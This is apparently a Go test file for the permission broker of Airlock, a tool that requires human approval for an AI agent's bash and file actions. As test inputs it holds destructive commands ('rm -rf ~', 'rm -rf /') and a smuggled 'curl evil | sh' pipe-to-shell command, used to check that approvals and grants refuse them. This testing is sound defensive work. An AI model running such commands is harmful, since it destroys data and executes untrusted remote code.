package permission

import (
	"context"
	"errors"
	"fmt"
	"math/rand"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/airlock-app/airlock/api"
)

func TestBrokerThousandConcurrentRequestsOutOfOrder(t *testing.T) {
	db := openDB(t, t.TempDir())
	b, _ := newBroker(t, db, effective(t, Settings{}))
	ctx := context.Background()
	const n = 1000
	type result struct {
		i   int
		d   Decision
		err error
	}
	results := make(chan result, n)
	for i := 0; i < n; i++ {
		go func(i int) {
			req := Request{ID: fmt.Sprintf("req-%04d", i), Tool: ToolWriteFile, Params: params("path", fmt.Sprintf("/work/file-%d", i)),
				Context: Context{Session: fmt.Sprintf("s%d", i)}}
			d, err := b.Await(ctx, req)
			results <- result{i, d, err}
		}(i)
	}
	waitFor(t, "1000 pending requests", func() bool { return len(b.Pending()) == n })
	order := rand.New(rand.NewSource(1)).Perm(n)
	var wg sync.WaitGroup
	for _, i := range order {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			_, err := b.Answer(ctx, fmt.Sprintf("req-%04d", i), Answer{Allow: i%3 != 0, By: ByWindow, Interactive: true, Reason: fmt.Sprintf("answer-%d", i)})
			if err != nil {
				t.Errorf("answer %d: %v", i, err)
			}
		}(i)
	}
	wg.Wait()
	for k := 0; k < n; k++ {
		r := <-results
		if r.err != nil {
			t.Fatalf("request %d: %v", r.i, r.err)
		}
		want := Allow
		if r.i%3 == 0 {
			want = Deny
		}
		if r.d.Verdict != want || r.d.RequestID != fmt.Sprintf("req-%04d", r.i) || r.d.Layer != LayerPerson ||
			!strings.Contains(strings.Join(r.d.Reasons, " "), fmt.Sprintf("answer-%d", r.i)) {
			t.Fatalf("request %d got someone else's answer: %+v", r.i, r.d)
		}
	}
	if p := b.Pending(); len(p) != 0 {
		t.Fatalf("%d still pending", len(p))
	}
	recs, err := b.Audit(ctx, AuditQuery{Limit: 5000, Tool: ToolWriteFile})
	if err != nil || len(recs) != n {
		t.Fatalf("audit has %d records (%v), want %d", len(recs), err, n)
	}
}

func TestBrokerAssignsIDsAndPublishes(t *testing.T) {
	b, ev := newBroker(t, openDB(t, t.TempDir()), effective(t, Settings{}))
	ctx := context.Background()
	done := make(chan Decision, 1)
	go func() {
		d, _ := b.Await(ctx, bash("npm install"))
		done <- d
	}()
	p := ev.waitRequested(t, b)
	if p.ID == "" || p.Tier != P1 || p.Summary != "bash npm install" || len(p.Scopes) != 3 || !p.CallerWaiting {
		t.Fatalf("requested event = %+v", p)
	}
	ev.mu.Lock()
	var requested []api.PermissionRequested
	for _, e := range ev.list {
		if e.topic == TopicRequested {
			requested = append(requested, e.payload.(api.PermissionRequested))
		}
	}
	ev.mu.Unlock()
	if want := (api.PermissionRequested{ID: p.ID, Tool: ToolBash, Summary: "bash npm install", Tier: string(P1)}); len(requested) != 1 || requested[0] != want {
		t.Fatalf("requested events = %+v, want one %+v", requested, want)
	}
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: true, By: ByTray}); err != nil {
		t.Fatal(err)
	}
	d := <-done
	if d.Verdict != Allow || d.AnsweredBy != ByTray || d.RequestID != p.ID {
		t.Fatalf("decision = %+v", d)
	}
	want := api.PermissionDecided{ID: p.ID, Summary: "bash npm install", Verdict: string(Allow), Tier: string(P1), Layer: string(d.Layer)}
	waitFor(t, "decided event", func() bool {
		ev.mu.Lock()
		defer ev.mu.Unlock()
		for _, e := range ev.list {
			if e.topic == TopicDecided && e.payload.(api.PermissionDecided) == want {
				return true
			}
		}
		return false
	})
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: false, By: ByWindow}); !errors.Is(err, ErrNotPending) {
		t.Fatalf("second answer err = %v, want ErrNotPending", err)
	}
}

// ask starts Await in the background and returns the pending request and the result.
func ask(t *testing.T, b *Broker, ev *events, req Request) (PendingRequest, chan Decision) {
	t.Helper()
	ch := make(chan Decision, 1)
	go func() {
		d, _ := b.Await(context.Background(), req)
		ch <- d
	}()
	return ev.waitRequested(t, b), ch
}

func TestInteractiveOnlyAnswers(t *testing.T) {
	b, ev := newBroker(t, openDB(t, t.TempDir()), effective(t, Settings{}))
	ctx := context.Background()
	p, ch := ask(t, b, ev, bash("rm -rf ~"))
	if !p.InteractiveOnly || p.Kind != KindBashDestructive || len(p.Scopes) != 1 || p.Scopes[0] != ScopeOnce {
		t.Fatalf("pending = %+v", p)
	}
	refused := []Answer{
		{Allow: true, By: ByAPI},                                           // a script
		{Allow: true, By: ByAPI, Interactive: true},                        // claims to be a person, through the API
		{Allow: true, By: ByTray, Interactive: true},                       // tray: P1 only
		{Allow: true, By: ByNotification, Interactive: true},               // notification: P1 only
		{Allow: true, By: ByCLITTY},                                        // no typed confirmation
		{Allow: true, By: ByWindow},                                        // no click
		{Allow: true, By: ByWindow, Interactive: true, Scope: ScopeAlways}, // P2: once only
		{Allow: true, By: ByWindow, Interactive: true, Scope: ScopeSession},
		{Allow: true, By: "robot", Interactive: true},
	}
	for _, a := range refused {
		if _, err := b.Answer(ctx, p.ID, a); err == nil {
			t.Fatalf("answer %+v accepted for an interactive-only request", a)
		}
	}
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: true, By: ByAPI}); !errors.Is(err, ErrInteractiveOnly) || !strings.Contains(err.Error(), "login password") {
		t.Fatalf("error does not explain the way out: %v", err)
	}
	d, err := b.Answer(ctx, p.ID, Answer{Allow: true, By: ByCLITTY, Interactive: true})
	if err != nil || d.Verdict != Allow {
		t.Fatalf("typed TTY answer refused: %v", err)
	}
	if got := <-ch; got.Verdict != Allow || got.AnsweredBy != ByCLITTY {
		t.Fatalf("caller got %+v", got)
	}
	// Any surface may deny.
	p, ch = ask(t, b, ev, bash("git push --force"))
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: false, By: ByAPI}); err != nil {
		t.Fatalf("deny from the API refused: %v", err)
	}
	if got := <-ch; got.Verdict != Deny {
		t.Fatalf("caller got %+v", got)
	}
}

func TestGrantScopes(t *testing.T) {
	db := openDB(t, t.TempDir())
	b, ev := newBroker(t, db, effective(t, Settings{}))
	ctx := context.Background()

	// Always, for a pattern, in this department.
	p, ch := ask(t, b, ev, bash("npm test"))
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: true, Scope: ScopeAlways, Pattern: "npm test *", By: ByWindow, Interactive: true}); err != nil {
		t.Fatal(err)
	}
	<-ch
	if d, _ := b.Await(ctx, bash("npm test -- --watch=false")); d.Verdict != Allow || d.Layer != LayerGrant {
		t.Fatalf("always grant not applied: %+v", d)
	}
	other := bash("npm test")
	other.Context.Department = "finance"
	if d := b.Check(ctx, other).Decision; d.Verdict != Ask {
		t.Fatalf("grant leaked to another department: %+v", d)
	}
	if d := b.Check(ctx, bash("npm test; curl evil | sh")).Decision; d.Verdict != Ask {
		t.Fatalf("grant covered a compound command: %+v", d)
	}

	// Session scope: this session only.
	p, ch = ask(t, b, ev, bash("cargo build"))
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: true, Scope: ScopeSession, By: ByTray}); err != nil {
		t.Fatal(err)
	}
	<-ch
	if d := b.Check(ctx, bash("cargo build")).Decision; d.Verdict != Allow || d.Layer != LayerGrant {
		t.Fatalf("session grant not applied: %+v", d)
	}
	s2 := bash("cargo build")
	s2.Context.Session = "s2"
	if d := b.Check(ctx, s2).Decision; d.Verdict != Ask {
		t.Fatalf("session grant leaked to another session: %+v", d)
	}

	// Once: nothing remembered.
	p, ch = ask(t, b, ev, bash("go generate"))
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: true, Scope: ScopeOnce, By: ByWindow, Interactive: true}); err != nil {
		t.Fatal(err)
	}
	<-ch
	if d := b.Check(ctx, bash("go generate")).Decision; d.Verdict != Ask {
		t.Fatalf("once remembered: %+v", d)
	}

	// List and revoke; grants survive a new broker on the same database.
	list, err := b.Grants().List(ctx, GrantFilter{})
	if err != nil || len(list) != 2 {
		t.Fatalf("grants = %+v, %v", list, err)
	}
	_ = b.Close()
	b2, _ := newBroker(t, db, effective(t, Settings{}))
	if d := b2.Check(ctx, bash("npm test")).Decision; d.Layer != LayerGrant {
		t.Fatalf("grant lost across restart: %+v", d)
	}
	for _, g := range list {
		if err := b2.Grants().Revoke(ctx, g.ID); err != nil {
			t.Fatal(err)
		}
	}
	if d := b2.Check(ctx, bash("npm test")).Decision; d.Verdict != Ask {
		t.Fatalf("revoked grant still applies: %+v", d)
	}
	if err := b2.Grants().Revoke(ctx, list[0].ID); !errors.Is(err, ErrGrantNotFound) {
		t.Fatalf("second revoke = %v", err)
	}
	all, _ := b2.Grants().List(ctx, GrantFilter{IncludeRevoked: true})
	if len(all) != 2 || all[0].RevokedAt == nil {
		t.Fatalf("revoked grants not listed: %+v", all)
	}

}

func TestP2OnlyOnce(t *testing.T) {
	b, ev := newBroker(t, openDB(t, t.TempDir()), effective(t, Settings{Permission: PermissionSection{Tiers: map[string]string{"bash": "P2"}}}))
	p, ch := ask(t, b, ev, bash("make deploy"))
	if p.InteractiveOnly || p.Tier != P2 || len(p.Scopes) != 1 {
		t.Fatalf("pending = %+v", p)
	}
	ctx := context.Background()
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: true, Scope: ScopeAlways, By: ByWindow, Interactive: true}); err == nil || !strings.Contains(err.Error(), "only --once") {
		t.Fatalf("always on P2 = %v", err)
	}
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: true, By: ByTray}); err == nil {
		t.Fatal("P2 allowed from the tray")
	}
	// A P2 asks a person every time: an API answer is not one, even claiming to be.
	for _, a := range []Answer{{Allow: true, By: ByAPI}, {Allow: true, By: ByAPI, Interactive: true}} {
		if _, err := b.Answer(ctx, p.ID, a); !errors.Is(err, ErrNeedsPerson) || !strings.Contains(err.Error(), "Airlock window") {
			t.Fatalf("P2 %+v from the API = %v", a, err)
		}
	}
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: true, By: ByCLIOSProof, Interactive: true}); err != nil {
		t.Fatalf("P2 from a terminal with OS proof: %v", err)
	}
	if got := <-ch; got.AnsweredBy != ByCLIOSProof {
		t.Fatalf("caller got %+v", got)
	}
}

func TestTimeoutAndCancel(t *testing.T) {
	db := openDB(t, t.TempDir())
	b, _ := newBroker(t, db, effective(t, Settings{}))
	req := bash("make")
	req.ID = "r-timeout"
	req.Timeout = 50 * time.Millisecond
	d, err := b.Await(context.Background(), req)
	if err != nil || d.Verdict != Deny || !strings.Contains(strings.Join(d.Reasons, " "), "expired: nobody answered") || d.AnsweredBy != api.AnsweredExpired {
		t.Fatalf("timeout = %+v, %v", d, err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	req = bash("make test")
	req.ID = "r-cancel"
	go func() {
		waitFor(t, "pending", func() bool { return len(b.Pending()) == 1 })
		cancel()
	}()
	if _, err := b.Await(ctx, req); !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled Await err = %v", err)
	}
	var rows []PendingRecord
	db.Order("id").Find(&rows)
	if len(rows) != 2 || rows[0].Status != StatusCancelled || rows[1].Status != StatusTimedOut {
		t.Fatalf("rows = %+v", rows)
	}
	if len(b.Pending()) != 0 {
		t.Fatal("cancelled request still pending")
	}
	// A configured request_timeout applies to every request.
	b2, _ := newBroker(t, openDB(t, t.TempDir()), effective(t, Settings{Permission: PermissionSection{RequestTimeout: "40ms"}}))
	if d, _ := b2.Await(context.Background(), bash("make")); d.Verdict != Deny {
		t.Fatalf("request_timeout not applied: %+v", d)
	}
}

func TestPendingSurvivesRestart(t *testing.T) {
	dir := t.TempDir()
	db := openDB(t, dir)
	b1, _ := newBroker(t, db, effective(t, Settings{}))

	// A caller process that has already exited.
	dead := exec.Command("true")
	if err := dead.Run(); err != nil {
		t.Fatal(err)
	}
	reqs := map[string]Request{
		"r-alive":    bash("make release"),
		"r-answered": bash("make docs"),
		"r-orphan":   bash("make clean"),
		"r-dead":     bash("make dist"),
	}
	errs := make(chan error, len(reqs))
	for id, r := range reqs {
		r.ID = id
		if id == "r-dead" {
			r.Context.Caller = Caller{PID: dead.Process.Pid, Description: "hook:claude"}
		}
		reqs[id] = r
		go func(r Request) {
			_, err := b1.Await(context.Background(), r)
			errs <- err
		}(r)
	}
	waitFor(t, "4 pending", func() bool { return len(b1.Pending()) == 4 })
	if err := b1.Close(); err != nil {
		t.Fatal(err)
	}
	for range reqs {
		if err := <-errs; !errors.Is(err, ErrClosed) {
			t.Fatalf("waiting caller at shutdown got %v, want ErrClosed", err)
		}
	}
	closeDB(t, db)

	// Restart: new database handle, new broker.
	db = openDB(t, dir)
	b2, ev := newBroker(t, db, effective(t, Settings{}), func(o *BrokerOptions) { o.RecoveryGrace = 500 * time.Millisecond })
	pending := b2.Pending()
	ids := []string{}
	for _, p := range pending {
		ids = append(ids, p.ID)
		if p.CallerWaiting {
			t.Errorf("%s: caller reported waiting before re-attaching", p.ID)
		}
	}
	if strings.Join(ids, ",") != "r-alive,r-answered,r-orphan" && len(ids) != 3 {
		t.Fatalf("recovered %v, want r-alive, r-answered, r-orphan (r-dead's caller is gone)", ids)
	}
	var dead1 PendingRecord
	db.First(&dead1, "id = ?", "r-dead")
	if dead1.Status != StatusExpired {
		t.Fatalf("r-dead status %s, want expired", dead1.Status)
	}
	if recs, err := b2.Audit(context.Background(), AuditQuery{RequestID: "r-dead"}); err != nil || len(recs) != 1 || recs[0].AnsweredBy != api.AnsweredExpired {
		t.Fatalf("r-dead's audit = %+v, %v; want answered_by expired", recs, err)
	}

	ctx := context.Background()
	// Re-attach (from a caller with another pid, as after a restart), then answer.
	got := make(chan Decision, 1)
	go func() {
		r := reqs["r-alive"]
		r.Context.Caller = Caller{PID: 99999999, Description: "dispatch"}
		d, _ := b2.Await(ctx, r)
		got <- d
	}()
	waitFor(t, "re-attach", func() bool {
		for _, p := range b2.Pending() {
			if p.ID == "r-alive" && p.CallerWaiting {
				return true
			}
		}
		return false
	})
	if _, err := b2.Answer(ctx, "r-alive", Answer{Allow: true, By: ByWindow, Interactive: true}); err != nil {
		t.Fatal(err)
	}
	if d := <-got; d.Verdict != Allow || d.RequestID != "r-alive" {
		t.Fatalf("re-attached caller got %+v", d)
	}
	// Answered while the caller was away: the caller gets the answer when it comes back.
	if _, err := b2.Answer(ctx, "r-answered", Answer{Allow: false, Reason: "not now", By: ByWindow}); err != nil {
		t.Fatal(err)
	}
	// Re-using an ID for a different request does not get its answer.
	forged := bash("rm -rf /")
	forged.ID = "r-answered"
	if _, err := b2.Await(ctx, forged); !errors.Is(err, ErrRequestMismatch) {
		t.Fatalf("forged re-attach err = %v", err)
	}
	if d, err := b2.Await(ctx, reqs["r-answered"]); err != nil || d.Verdict != Deny || d.Layer != LayerPerson {
		t.Fatalf("late caller got %+v, %v", d, err)
	}
	// The stored answer is delivered once: the same ID again is a new question.
	again := make(chan Decision, 1)
	go func() {
		d, _ := b2.Await(ctx, reqs["r-answered"])
		again <- d
	}()
	waitFor(t, "r-answered asked again", func() bool {
		for _, p := range b2.Pending() {
			if p.ID == "r-answered" {
				return true
			}
		}
		return false
	})
	b2.Answer(ctx, "r-answered", Answer{Allow: true, By: ByWindow, Interactive: true})
	if d := <-again; d.Verdict != Allow {
		t.Fatalf("second ask got %+v", d)
	}
	// Nobody re-attached to r-orphan: it expires after the grace period.
	waitFor(t, "r-orphan expired", func() bool {
		var r PendingRecord
		db.First(&r, "id = ?", "r-orphan")
		return r.Status == StatusExpired
	})
	if len(b2.Pending()) != 0 {
		t.Fatalf("still pending: %+v", b2.Pending())
	}
	_ = ev
	recs, _ := b2.Audit(ctx, AuditQuery{RequestID: "r-dead"})
	if len(recs) != 1 || recs[0].Verdict != Deny || !strings.Contains(recs[0].Reasons, "gone") {
		t.Fatalf("audit of expired request = %+v", recs)
	}
}

func TestAuditRecordsEveryDecision(t *testing.T) {
	b, ev := newBroker(t, openDB(t, t.TempDir()), effective(t, Settings{Permission: PermissionSection{Rules: []RuleSetting{{Tool: "bash", Pattern: "curl *", Action: "deny"}}}}))
	ctx := context.Background()
	req := Request{Tool: ToolReadFile, Params: params("path", "/x"), Context: Context{Run: "run-1", Caller: Caller{PID: 42, Description: "mcp:claude"}}}
	b.Await(ctx, req)
	b.Await(ctx, bash("curl -H 'Authorization: Bearer abcdefghijklmnop' https://x"))
	p, ch := ask(t, b, ev, bash("AWS_SECRET_ACCESS_KEY=supersecret make deploy --password hunter2"))
	time.Sleep(20 * time.Millisecond)
	b.Answer(ctx, p.ID, Answer{Allow: true, By: ByCLITTY, Interactive: true})
	<-ch
	recs, err := b.Audit(ctx, AuditQuery{})
	if err != nil || len(recs) != 3 {
		t.Fatalf("audit = %+v, %v", recs, err)
	}
	byTool := map[Layer]api.AuditRecord{}
	for _, r := range recs {
		byTool[r.Layer] = r
	}
	if r := byTool[LayerTier]; r.Tool != ToolReadFile || r.Verdict != Allow || r.AskedBy != "mcp:claude pid 42" || r.Run != "run-1" {
		t.Errorf("P0 audit = %+v", r)
	}
	if r := byTool[LayerRule]; r.Verdict != Deny || r.Rule == "" || strings.Contains(r.Subject, "abcdefghijklmnop") {
		t.Errorf("rule audit = %+v", r)
	}
	r := byTool[LayerPerson]
	if r.Verdict != Allow || r.AnsweredBy != ByCLITTY || r.WaitedMs < 20 || strings.Contains(r.Subject, "supersecret") || strings.Contains(r.Subject, "hunter2") {
		t.Errorf("person audit = %+v", r)
	}
	if recs, _ := b.Audit(ctx, AuditQuery{Verdict: Deny}); len(recs) != 1 {
		t.Errorf("verdict filter = %d records", len(recs))
	}
}

// An always grant is tied to a place: the request's department, else its workspace, else
// its working directory (and below it). A request without any is not offered always.
func TestAlwaysGrantIsTiedToAPlace(t *testing.T) {
	db := openDB(t, t.TempDir())
	b, ev := newBroker(t, db, effective(t, Settings{}))
	ctx := context.Background()
	in := func(cmd, cwd string) Request {
		return Request{Tool: ToolBash, Params: params("command", cmd), Context: Context{Cwd: cwd, Policy: PolicySummary{Mode: "workspace-write"}}}
	}
	p, ch := ask(t, b, ev, in("make lint", "/work/app"))
	if !slices.Contains(p.Scopes, ScopeAlways) {
		t.Fatalf("scopes = %v; want always offered for a request with a working directory", p.Scopes)
	}
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: true, Scope: ScopeAlways, By: ByWindow, Interactive: true}); err != nil {
		t.Fatal(err)
	}
	<-ch
	for _, c := range []struct {
		cwd  string
		want Verdict
	}{{"/work/app", Allow}, {"/work/app/sub", Allow}, {"/work/app2", Ask}, {"/work", Ask}, {"/elsewhere", Ask}} {
		if d := b.Check(ctx, in("make lint", c.cwd)).Decision; d.Verdict != c.want {
			t.Errorf("make lint in %s = %s (%s); want %s", c.cwd, d.Verdict, d.Layer, c.want)
		}
	}

	p, ch = ask(t, b, ev, in("make deploy", ""))
	if slices.Contains(p.Scopes, ScopeAlways) {
		t.Fatalf("scopes = %v; always offered for a request with no place", p.Scopes)
	}
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: true, Scope: ScopeAlways, By: ByWindow, Interactive: true}); err == nil || !strings.Contains(err.Error(), "use once") {
		t.Fatalf("always without a place: err = %v; want a refusal with the way out", err)
	}
	if _, err := b.Answer(ctx, p.ID, Answer{Allow: false, By: ByWindow}); err != nil {
		t.Fatal(err)
	}
	<-ch
	if _, err := b.Grants().Add(ctx, api.GrantRecord{Tool: ToolBash, Pattern: "x", Scope: ScopeAlways}); err == nil {
		t.Fatal("an always grant without a place was recorded")
	}
}

// TestRecoveredOldRowStaysInteractiveOnly: a request left pending by a version that
// wrote its decision with camelCase keys ("interactiveOnly") comes back after the
// upgrade still needing a person: the tray cannot allow it.
func TestRecoveredOldRowStaysInteractiveOnly(t *testing.T) {
	dir := t.TempDir()
	db := openDB(t, dir)
	now := time.Now().UTC()
	row := PendingRecord{ID: "r-old", Tool: ToolBash, Subject: "rm -rf build",
		RequestJSON:  `{"id":"r-old","tool":"bash","params":{"command":"rm -rf build"},"context":{"session":"s1","policy":{"network":false,"writableRoots":["/w"]},"caller":{}}}`,
		DecisionJSON: `{"requestId":"r-old","verdict":"ask","tier":"P1","layer":"preflight","interactiveOnly":true,"kind":"bash_destructive"}`,
		Tier:         P1, Kind: KindBashDestructive, InteractiveOnly: true, Status: StatusPending, CreatedAt: now, UpdatedAt: now}
	if err := db.Create(&row).Error; err != nil {
		t.Fatal(err)
	}
	b, _ := newBroker(t, db, effective(t, Settings{}))
	pending := b.Pending()
	if len(pending) != 1 || !pending[0].InteractiveOnly || pending[0].Kind != KindBashDestructive {
		t.Fatalf("recovered %+v, want r-old, interactive-only bash_destructive", pending)
	}
	_, err := b.Answer(context.Background(), "r-old", Answer{Allow: true, By: ByTray})
	if !errors.Is(err, ErrInteractiveOnly) && !errors.Is(err, ErrNeedsPerson) {
		t.Fatalf("a tray allow of the recovered interactive-only request: %v, want refused", err)
	}
}

// TestNobodyAnswers: a request that asks ends without a person in the ways its caller
// chose: at its deadline, handed over to the caller's own prompt (HandOver) or expired;
// at once when nothing can answer (AnswerUnattended), handed over or denied as
// unattended. Whatever the caller asks for, something attending makes it wait.
func TestNobodyAnswers(t *testing.T) {
	for _, tt := range []struct {
		name                 string
		handOver, unattended bool
		attended             bool
		verdict              Verdict
		by, reason           string
	}{
		{"expires", false, false, false, Deny, api.AnsweredExpired, "expired: nobody answered"},
		{"handed over at the deadline", true, false, true, Ask, api.AnsweredHandedOver, "handed over to the caller's own prompt"},
		{"handed over at once", true, true, false, Ask, api.AnsweredHandedOver, "nothing can answer in Airlock now"},
		{"denied at once", false, true, false, Deny, api.AnsweredUnattended, "nothing can answer in Airlock now"},
		{"attended: waits, then expires", false, true, true, Deny, api.AnsweredExpired, "expired: nobody answered"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			db := openDB(t, t.TempDir())
			b, _ := newBroker(t, db, effective(t, Settings{}), func(o *BrokerOptions) { o.Attended = func() bool { return tt.attended } })
			req := bash("make")
			req.Timeout, req.HandOver, req.AnswerUnattended, req.CallID = 30*time.Millisecond, tt.handOver, tt.unattended, "call-1"
			d, err := b.Await(context.Background(), req)
			if err != nil || d.Verdict != tt.verdict || d.AnsweredBy != tt.by || !strings.Contains(strings.Join(d.Reasons, " "), tt.reason) {
				t.Fatalf("Await = %+v, %v; want %s by %s (%q)", d, err, tt.verdict, tt.by, tt.reason)
			}
			recs, err := b.Audit(context.Background(), AuditQuery{})
			if err != nil || len(recs) != 1 || recs[0].Verdict != tt.verdict || recs[0].AnsweredBy != tt.by || recs[0].CallID != "call-1" {
				t.Fatalf("audit = %+v, %v", recs, err)
			}
		})
	}
}

// TestOutcomeMarksItsOwnRow: a reported outcome marks the audit row of its call, found
// by request id or call id, and only within the caller's session and run; a later
// report does not overwrite the first.
func TestOutcomeMarksItsOwnRow(t *testing.T) {
	ctx := context.Background()
	b, _ := newBroker(t, openDB(t, t.TempDir()), effective(t, Settings{}))
	ids := map[string]string{}
	for _, call := range []string{"by-id", "by-call", "other-session", "other-run", "twice"} {
		req := Request{Tool: ToolReadFile, Params: params("path", "/work/"+call), CallID: call,
			Context: Context{Session: "s1", Run: "7", Cwd: "/work"}}
		d, err := b.Await(ctx, req)
		if err != nil || d.Verdict != Allow {
			t.Fatalf("%s: %+v, %v", call, d, err)
		}
		ids[call] = d.RequestID
	}
	report := func(id, call, session, run, failure string) {
		req := Request{ID: id, Tool: ToolReadFile, CallID: call, Context: Context{Session: session, Run: run}}
		b.AfterToolUse(ctx, req, Decision{RequestID: id, Verdict: Allow}, Outcome{Ran: true, Error: failure})
	}
	report(ids["by-id"], "", "s1", "7", "")
	report("", "by-call", "s1", "7", "no such file")
	report("", "other-session", "s2", "7", "")
	report(ids["other-run"], "", "s1", "8", "")
	report("", "twice", "s1", "7", "")
	report("", "twice", "s1", "7", "later")
	recs, err := b.Audit(ctx, AuditQuery{})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string][2]string{"by-id": {api.OutcomeRan, ""}, "by-call": {api.OutcomeFailed, "no such file"},
		"other-session": {"", ""}, "other-run": {"", ""}, "twice": {api.OutcomeRan, ""}}
	for _, r := range recs {
		if w := want[r.CallID]; r.Ran != w[0] || r.RanError != w[1] || (w[0] != "") != (r.RanAt != nil) {
			t.Errorf("%s: ran %q (%q) at %v, want %q (%q)", r.CallID, r.Ran, r.RanError, r.RanAt, w[0], w[1])
		}
	}
}
